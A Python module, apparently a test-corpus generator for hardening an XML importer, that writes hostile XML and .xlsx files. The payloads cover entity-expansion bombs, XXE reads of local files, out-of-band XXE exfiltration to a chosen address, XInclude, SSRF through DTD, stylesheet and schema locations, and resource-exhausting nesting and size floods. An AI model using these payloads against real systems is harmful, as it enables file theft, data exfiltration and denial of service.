"""XML made to harm whoever reads it: each file asks for time, memory, another file or another machine."""

from __future__ import annotations

import random
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

ROOTS = ("Message", "EXPSSDA903", "x")
BODY = {
    "Message": "<Children><Child><ChildIdentifiers><LAchildID>{0}</LAchildID></ChildIdentifiers></Child></Children>",
    "EXPSSDA903": "<CHILD><HEADER><CHILDID>{0}</CHILDID></HEADER></CHILD>",
    "x": "<y>{0}</y>",
}


@dataclass(frozen=True)
class Aim:
    """What an attack reaches for: a file that it must not read, and an address that it must not call."""

    file: Path
    address: str


def declared(root: str, dtd: str, body: str = "&e;", encoding: str = "UTF-8") -> str:
    """A document of this root with this in its document type, and this as a child's number."""
    head = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE {root} [{dtd}]>'
    return f"{head}<{root}>{BODY[root].format(body)}</{root}>"


def laughs(root: str, aim: Aim, chance: random.Random) -> str:
    wide, deep = chance.randint(8, 12), chance.randint(8, 10)
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * wide}">' for n in range(1, deep))
    return declared(root, f'<!ENTITY e0 "ha">{entities}', f"&e{deep - 1};")


def quadratic(root: str, aim: Aim, chance: random.Random) -> str:
    size = chance.randint(50_000, 90_000)
    return declared(root, f'<!ENTITY e "{"a" * size}">', "&e;" * 5_000)


def in_attribute(root: str, aim: Aim, chance: random.Random) -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    body = declared(root, f'<!ENTITY e0 "ha">{entities}', "")
    return body.replace(f"<{root}>", f'<{root} a="&e9;">', 1)


def defaults(root: str, aim: Aim, chance: random.Random) -> str:
    named = " ".join(f"a{number} CDATA '{'a' * 60_000}'" for number in range(30))
    return declared(root, f"<!ATTLIST y {named}>", "<y/>" * 3_000)


def outside_file(root: str, aim: Aim, chance: random.Random) -> str:
    return declared(root, f'<!ENTITY e SYSTEM "{aim.file.as_uri()}">')


def included_file(root: str, aim: Aim, chance: random.Random) -> str:
    namespace = "http://www.w3.org/2001/XInclude"
    include = f'<i:include xmlns:i="{namespace}" href="{aim.file.as_uri()}" parse="text"/>'
    return f"<{root}>{BODY[root].format(include)}</{root}>"


def outside(root: str, aim: Aim, chance: random.Random) -> str:
    where = chance.choice([aim.file.as_uri(), str(aim.file), aim.address, aim.address.replace("http", "ftp")])
    return declared(root, f'<!ENTITY e SYSTEM "{where}">')


def outside_type(root: str, aim: Aim, chance: random.Random) -> str:
    where = chance.choice([aim.file.as_uri(), f"{aim.address}/type.dtd"])
    return f'<?xml version="1.0"?><!DOCTYPE {root} SYSTEM "{where}"><{root}>{BODY[root].format("1")}</{root}>'


def public_type(root: str, aim: Aim, chance: random.Random) -> str:
    head = f'<!DOCTYPE {root} PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{aim.address}/x.dtd">'
    return f"{head}<{root}>{BODY[root].format('1')}</{root}>"


def parameter(root: str, aim: Aim, chance: random.Random) -> str:
    where = chance.choice([f"{aim.address}/p.dtd", aim.file.as_uri()])
    return declared(root, f'<!ENTITY % p SYSTEM "{where}"> %p; <!ENTITY e "x">')


def smuggled(root: str, aim: Aim, chance: random.Random) -> str:
    inner = f"<!ENTITY &#37; send SYSTEM '{aim.address}/?%f;'>"
    return declared(root, f'<!ENTITY % f SYSTEM "{aim.file.as_uri()}"><!ENTITY % all "{inner}"> %all; %send;', "1")


def included(root: str, aim: Aim, chance: random.Random) -> str:
    where, parse = chance.choice([(aim.file.as_uri(), "text"), (aim.address, "xml")])
    include = f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{where}" parse="{parse}"/>'
    return f"<{root}>{BODY[root].format(include)}</{root}>"


def styled(root: str, aim: Aim, chance: random.Random) -> str:
    return f'<?xml-stylesheet type="text/xsl" href="{aim.address}/x.xsl"?><{root}>{BODY[root].format("1")}</{root}>'


def schema(root: str, aim: Aim, chance: random.Random) -> str:
    named = f'xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:noNamespaceSchemaLocation="{aim.address}/x.xsd"'
    return f"<{root} {named}>{BODY[root].format('1')}</{root}>"


def deep(root: str, aim: Aim, chance: random.Random) -> str:
    levels = chance.choice([300, 10_000, 100_000])
    return f"<{root}>{'<a>' * levels}{'</a>' * levels}</{root}>"


def cut_deep(root: str, aim: Aim, chance: random.Random) -> str:
    return f"<{root}>{'<a>' * 100_000}"


def many_attributes(root: str, aim: Aim, chance: random.Random) -> str:
    return f"<{root}><y {' '.join(f'a{n}={chr(34)}{n}{chr(34)}' for n in range(60_000))}/></{root}>"


def many_names(root: str, aim: Aim, chance: random.Random) -> str:
    return f"<{root}>{''.join(f'<a{n} xmlns:n{n}={chr(34)}u{n}{chr(34)}/>' for n in range(20_000))}</{root}>"


def huge_text(root: str, aim: Aim, chance: random.Random) -> str:
    return f"<{root}>{BODY[root].format('a' * 20_000_000)}</{root}>"


def huge_comment(root: str, aim: Aim, chance: random.Random) -> str:
    kind = chance.choice(["<!--{}-->", "<?a {}?>", "<y><![CDATA[{}]]></y>"])
    return f"<{root}>{kind.format('a' * 15_000_000)}</{root}>"


def itself(root: str, aim: Aim, chance: random.Random) -> str:
    return declared(root, '<!ENTITY e "&f;"><!ENTITY f "&e;">')


ATTACKS: list[Callable[[str, Aim, random.Random], str]] = [
    *(laughs, quadratic, in_attribute, defaults, outside_file, included_file, outside, outside_type, public_type),
    *(parameter, smuggled, included, styled, schema, deep, cut_deep, many_attributes, many_names, huge_text),
    *(huge_comment, itself),
]
ENCODINGS = ("utf-8", "utf-16", "utf-8-sig", "utf-16-be", "utf-7")


def made(folder: Path, count: int, *, aim: Aim, seed: int) -> Iterator[Path]:
    """So many files: every attack in turn, of changing roots and encodings; each eighth of them inside a workbook."""
    chance = random.Random(seed)
    for number in range(count):
        attack = ATTACKS[number % len(ATTACKS)]
        text = attack(chance.choice(ROOTS), aim, chance)
        encoding = chance.choice(ENCODINGS) if number >= len(ATTACKS) else "utf-8"
        path = folder / f"{number:03}-{attack.__name__}-{encoding}"
        if number % 8 == 7:
            yield _workbook(path.with_suffix(".xlsx"), text.replace("Message", "sst").encode(encoding, "replace"))
        else:
            path = path.with_suffix(".xml")
            path.write_bytes(text.encode(encoding, "replace"))
            yield path


def _workbook(path: Path, strings: bytes) -> Path:
    """A workbook whose table of strings is the attack."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    related = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        types = "http://schemas.openxmlformats.org/package/2006/content-types"
        book.writestr("[Content_Types].xml", f'<Types xmlns="{types}"/>')
        sheet = '<sheets><sheet name="L" sheetId="1" r:id="r1"/></sheets>'
        sheet = f'<workbook xmlns="{main}" xmlns:r="{related}">{sheet}</workbook>'
        book.writestr("xl/workbook.xml", sheet)
        link = f'<Relationship Id="r1" Type="{related}/worksheet" Target="worksheets/sheet1.xml"/>'
        link += f'<Relationship Id="r2" Type="{related}/sharedStrings" Target="sharedStrings.xml"/>'
        book.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{rels}">{link}</Relationships>')
        cell = '<sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData>'
        book.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}">{cell}</worksheet>')
        book.writestr("xl/sharedStrings.xml", strings)
    return path
